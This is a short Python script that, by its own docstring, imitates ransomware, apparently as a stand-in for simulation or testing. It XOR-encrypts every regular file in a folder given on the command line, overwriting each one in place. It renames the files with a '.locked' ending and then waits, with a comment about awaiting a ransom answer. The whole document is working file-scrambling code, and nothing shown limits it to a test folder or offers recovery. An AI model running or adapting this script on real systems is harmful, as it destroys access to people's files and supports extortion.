"""Makes each file of a folder unreadable where it lies, and gives it another ending; stands for a program that does it for ransom."""
import os
import sys
import time

KEY = bytes((index * 7 + 13) % 256 for index in range(4096))

for name in sorted(os.listdir(sys.argv[1])):
    path = os.path.join(sys.argv[1], name)
    if not os.path.isfile(path) or name.endswith(".locked"):
        continue
    with open(path, "r+b") as file:
        plain = file.read()
        file.seek(0)
        file.write(bytes(byte ^ KEY[index % 4096] for index, byte in enumerate(plain)))
    os.rename(path, path + ".locked")
# Whoever asks for ransom waits for an answer.
time.sleep(600)
